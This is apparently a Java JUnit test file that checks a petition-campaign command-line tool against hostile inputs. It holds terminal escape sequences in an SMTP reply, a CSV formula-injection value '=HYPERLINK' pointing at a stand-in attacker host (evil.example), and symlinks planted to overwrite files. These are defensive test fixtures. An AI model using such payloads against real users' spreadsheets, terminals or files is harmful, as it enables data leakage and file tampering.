package org.demarche.examples.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import org.demarche.examples.cli.Cli;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 20, items 5, 7 and 9 as an attacker meets them through the runner: a server reply carrying terminal
 * escapes, formulas typed by a supporter or a signatory, and links planted where the exports are written.
 */
class HostileOutputsTest {
  /** Sets the terminal's title, rings the bell, clears the screen (an SMTP reply is ASCII). */
  private static final String HOSTILE = "\u001B]0;pwned\u0007\u001B[2J";

  @TempDir
  Path dir;

  @Test
  void aServerReplyWithTerminalEscapesIsPrintedEscapedByRunAndStatus() throws Exception {
    String reply = "550 5.1.1 no such user " + HOSTILE + "gotcha";
    try (ScriptedSmtpServer server = new ScriptedSmtpServer(
        rcpt -> rcpt.equals("m001@missions.test") ? reply : "250 2.1.5 OK", rcpt -> "250 2.0.0 OK queued")) {
      Path campaign = TestCampaigns.write(dir, 2, server.port());

      Cli.Result run = Cli.run("run", campaign.toString(), "--out", dir.resolve("out").toString(), "--send");
      Cli.Result status = Cli.run("status", campaign.toString());
      Cli.Result json = Cli.run("status", campaign.toString(), "--format", "json");

      assertThat(run.exitCode()).isEqualTo(1);
      for (Cli.Result r : new Cli.Result[] {run, status, json}) {
        String printed = r.out() + r.err();
        assertThat(printed).doesNotContain("\u001B").doesNotContain("\u0007");
      }
      assertThat(run.out()).contains("\\u001B]0;pwned\\u0007\\u001B[2Jgotcha");
      assertThat(status.out()).contains("\\u001B]0;pwned\\u0007\\u001B[2Jgotcha");
      assertThat(json.out()).containsIgnoringCase("\\u001B]0;pwned");
    }
  }

  @Test
  void voicesCsvNeutralizesFormulasIsPrivateAndReplacesALinkPlantedAtItsName() throws Exception {
    Path campaign = campaign();
    Path out = Files.createDirectories(dir.resolve("out"));
    Path victim = Files.writeString(dir.resolve("victim.txt"), "keep me");
    Files.createSymbolicLink(out.resolve("voices.csv"), victim);
    Path csv = Files.writeString(dir.resolve("supporters.csv"), """
        name,email,country,region,paragraph
        "=HYPERLINK(""http://evil.example/""&A1)",aiko@example.org,JP,JP-27,
        """);

    Cli.Result r = Cli.run("voice", campaign.toString(), "--supporters", csv.toString(), "--out", out.toString());

    assertThat(r.exitCode()).as(r.out() + r.err()).isZero();
    assertThat(victim).hasContent("keep me");
    Path index = out.resolve("voices.csv");
    assertThat(Files.isSymbolicLink(index)).isFalse();
    assertThat(Files.readString(index)).contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"")
        .doesNotContain(",=HYPERLINK");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(index))).isEqualTo("rw-------");
  }

  @Test
  void theReceiptsIndexNeutralizesFormulasIsPrivateAndReplacesALinkPlantedAtItsName() throws Exception {
    Path campaign = campaign();
    Files.writeString(campaign.resolveSibling("signatories.csv"), "=1+1,person,,Osaka,JP,eve@example.org,2026-09-06,full\n",
        java.nio.file.StandardOpenOption.APPEND);
    Path receipts = Files.createDirectories(dir.resolve("receipts"));
    Path victim = Files.writeString(dir.resolve("victim.txt"), "keep me");
    Files.createSymbolicLink(receipts.resolve("index.csv"), victim);

    Cli.Result r = Cli.run("receipts", campaign.toString(), "--out", receipts.toString());

    assertThat(r.exitCode()).as(r.err()).isZero();
    assertThat(victim).hasContent("keep me");
    Path index = receipts.resolve("index.csv");
    assertThat(Files.isSymbolicLink(index)).isFalse();
    assertThat(Files.readString(index)).startsWith("name,email,receipt\r\n").contains("aiko@example.org")
        .contains("\r\n'=1+1,eve@example.org,receipt-");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(index))).isEqualTo("rw-------");
  }

  @Test
  void aChildRunnerPrintsNoRawEscapeAndExitsTwoOnBadInputOrNoCommand() throws Exception {
    Path campaign = campaign();
    Files.writeString(campaign, Files.readString(campaign).replace("date: 2026-09-24",
        "date: \"2026-09-24\\e]0;pwned\\a\\e[2J\""));

    Child validate = child("validate", campaign.toString());
    Child bare = child();

    assertThat(validate.exit()).isEqualTo(2);
    assertThat(validate.output()).contains("\\u001B]0;pwned\\u0007\\u001B[2J").doesNotContain("\u001B")
        .doesNotContain("\u0007");
    assertThat(bare.exit()).isEqualTo(2);
    assertThat(bare.output()).contains("Usage: demarche");
  }

  private record Child(int exit, String output) {}

  /** The runner in a child JVM, as from a terminal: its exit code and everything it printed. */
  private Child child(String... args) throws Exception {
    java.util.List<String> command = new java.util.ArrayList<>(java.util.List.of(
        Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-XX:TieredStopAtLevel=1",
        "-cp", System.getProperty("java.class.path"), "org.demarche.examples.cli.DemarcheCli"));
    command.addAll(java.util.List.of(args));
    Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
    String output = new String(p.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
    assertThat(p.waitFor(60, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
    return new Child(p.exitValue(), output);
  }

  /** The founding campaign, copied (journals and salts stay out of the source tree). */
  private Path campaign() throws Exception {
    Path source = Path.of("campaigns/world-save-north-korean-refugees-day");
    Path copy = Files.createDirectories(dir.resolve("campaign"));
    try (var files = Files.list(source)) {
      for (Path f : files.filter(p -> !p.getFileName().toString().endsWith(".journal")).toList()) {
        Files.copy(f, copy.resolve(f.getFileName()));
      }
    }
    return copy.resolve("campaign.yaml");
  }
}
